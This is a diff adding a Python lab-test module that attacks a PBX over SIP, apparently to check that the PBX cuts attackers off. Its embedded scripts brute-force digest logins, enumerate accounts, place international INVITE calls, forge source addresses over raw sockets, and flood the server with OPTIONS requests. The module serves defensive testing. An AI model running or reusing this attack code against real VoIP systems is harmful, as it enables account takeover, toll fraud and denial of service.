@@ -1,0 +1,146 @@
+"""What attackers do, from a lab host: guess passwords, ask for accounts, call, forge their address."""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+
+from lab.driver.agents import Pbx
+from lab.driver.machine import Machine, Process
+
+# Prints a line "<seconds since the start> <status, or silence>" an offence, and ends after two silent ones.
+_OFFEND = r"""
+import hashlib, re, socket, sys, time
+kind, host = sys.argv[1:3]
+port, interval, most = int(sys.argv[3]), float(sys.argv[4]), int(sys.argv[5])
+channel = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+channel.connect((host, port))
+channel.settimeout(1)
+own = channel.getsockname()
+start = time.monotonic()
+
+def ask(method, user, serial, more=""):
+    lines = [
+        f"{method} sip:{user}@{host}:{port} SIP/2.0",
+        f"Via: SIP/2.0/UDP {own[0]}:{own[1]};branch=z9hG4bK-{own[1]}-{serial}-{len(more)};rport",
+        "Max-Forwards: 70", f"From: <sip:{user}@{host}>;tag=a{serial}", f"To: <sip:{user}@{host}>",
+        f"Call-ID: {kind}-{own[1]}-{serial}@{own[0]}", f"CSeq: {2 if more else 1} {method}",
+        f"Contact: <sip:{user}@{own[0]}:{own[1]}>", *([more] if more else []), "Content-Length: 0", "", "",
+    ]
+    channel.send("\r\n".join(lines).encode())
+    while True:
+        answer = channel.recv(65535).decode()
+        if f"-{own[1]}-{serial}@" in answer and not answer.startswith("SIP/2.0 1"):
+            return answer
+
+def offend(serial):
+    if kind == "enumerate":
+        return ask("REGISTER", f"{7000 + serial}", serial)
+    if kind == "call":
+        return ask("INVITE", "0015551234567", serial)
+    challenged = ask("REGISTER", "101", serial)
+    nonce = re.search('nonce="([^"]+)"', challenged)[1]
+    more = (f'Authorization: Digest username="101", realm="asterisk", nonce="{nonce}", uri="sip:101@{host}", '
+            f'response="{hashlib.md5(str(serial).encode()).hexdigest()}", algorithm=MD5')
+    return ask("REGISTER", "101", serial, more)
+
+silent = 0
+for serial in range(1, most + 1):
+    try:
+        word = offend(serial).split()[1]
+        silent = 0
+    except (TimeoutError, ConnectionError):
+        word, silent = "silence", silent + 1
+    print(f"{time.monotonic() - start:.2f} {word}", flush=True)
+    if silent == 2:
+        break
+    time.sleep(interval)
+"""
+
+_FORGE = r"""
+import socket, struct, sys, time
+source, target, port, count, text = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), sys.argv[5]
+channel = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+for serial in range(count):
+    payload = text.replace("SERIAL", str(serial)).encode()
+    datagram = struct.pack(">HHHH", 5060, port, 8 + len(payload), 0) + payload
+    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(datagram), serial + 1, 0, 64, 17, 0,
+                       socket.inet_aton(source), socket.inet_aton(target))
+    channel.sendto(head + datagram, (target, 0))
+    time.sleep(0.02)
+"""
+
+_FLOOD = r"""
+import socket, sys, time
+host, port, rate, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
+channel = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+text = ("OPTIONS sip:{0} SIP/2.0\r\nVia: SIP/2.0/UDP 198.18.99.9:5060;branch=z9hG4bK-flood-SERIAL\r\n"
+        "Max-Forwards: 70\r\nFrom: <sip:x@{0}>;tag=f\r\nTo: <sip:{0}>\r\nCall-ID: flood-SERIAL\r\n"
+        "CSeq: 1 OPTIONS\r\nContent-Length: 0\r\n\r\n").format(host)
+end, sent = time.monotonic() + seconds, 0
+while time.monotonic() < end:
+    for _ in range(max(1, rate // 100)):
+        channel.sendto(text.replace("SERIAL", str(sent)).encode(), (host, port))
+        sent += 1
+    time.sleep(0.01)
+print(sent)
+"""
+
+
+@dataclass(frozen=True)
+class Attack:
+    """What an attacker saw: the status of each offence's answer, None for silence."""
+
+    statuses: tuple[int | None, ...]
+
+    @property
+    def was_cut_off(self) -> bool:
+        """Whether it was answered first, and then no more."""
+        return self.statuses[-2:] == (None, None) and any(self.statuses)
+
+    @property
+    def answered(self) -> int:
+        """How many offences were answered."""
+        return sum(status is not None for status in self.statuses)
+
+
+def offend(machine: Machine, pbx: Pbx, kind: str, *, interval: float = 0.1, most: int = 60) -> Attack:
+    """Offend again and again until nothing is answered any more.
+
+    Args:
+        machine: where the attacker sits.
+        pbx: whom it attacks.
+        kind: ``guess`` (passwords of 101), ``enumerate`` (accounts), or ``call``.
+        interval: seconds between two offences.
+        most: offences, if it is never cut off.
+    """
+    arguments = [kind, pbx.address, str(pbx.sip_port), str(interval), str(most)]
+    printed = machine.run(["python3", "-c", _OFFEND, *arguments], 120)
+    words = [line.split()[1] for line in printed.splitlines()]
+    return Attack(tuple(None if word == "silence" else int(word) for word in words))
+
+
+def forge(machine: Machine, pbx: Pbx, source: str, *, count: int = 30) -> None:
+    """Send requests for accounts that do not exist, under another's address."""
+    text = "\r\n".join(
+        (
+            f"REGISTER sip:{pbx.target} SIP/2.0",
+            f"Via: SIP/2.0/UDP {source}:5060;branch=z9hG4bK-forged-{source}-SERIAL;rport",
+            "Max-Forwards: 70",
+            "From: <sip:nobody@forged.example>;tag=forgedSERIAL",
+            "To: <sip:nobody@forged.example>",
+            f"Call-ID: forged-{source}-SERIAL",
+            "CSeq: 1 REGISTER",
+            f"Contact: <sip:nobody@{source}>",
+            "Content-Length: 0",
+            "",
+            "",
+        )
+    )
+    machine.run(["python3", "-c", _FORGE, source, pbx.address, str(pbx.sip_port), str(count), text])
+
+
+def flood(machine: Machine, pbx: Pbx, *, rate: int, seconds: float) -> Process:
+    """Send so many requests a second, for so long, in the background."""
+    return machine.start(
+        ["python3", "-c", _FLOOD, pbx.address, str(pbx.sip_port), str(rate), str(seconds)], "flood"
+    )
